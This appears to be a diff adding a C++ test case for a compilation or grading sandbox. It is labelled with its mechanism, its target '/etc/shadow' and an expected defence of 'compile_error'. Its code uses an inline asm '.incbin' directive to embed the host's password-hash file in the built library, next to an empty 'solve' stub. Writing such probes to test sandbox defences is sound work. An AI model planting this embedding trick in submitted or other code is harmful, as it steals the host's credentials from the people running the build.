@@ -1,0 +1,13 @@
+// Carries the host's passwords out in the library.
+//
+// Mechanism: as with the environment; the compiler's container has a file of this name only if the host's is let in.
+// Surface: files that the compiler may read.
+// Gain: the host's password hashes.
+// Challenge: twice
+// Defence: compile_error
+// On: cpu
+// Secret: /etc/shadow
+
+#include <cstdint>
+asm(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n.text\n");
+extern "C" void solve(const float* x, float* out, int64_t n) {}
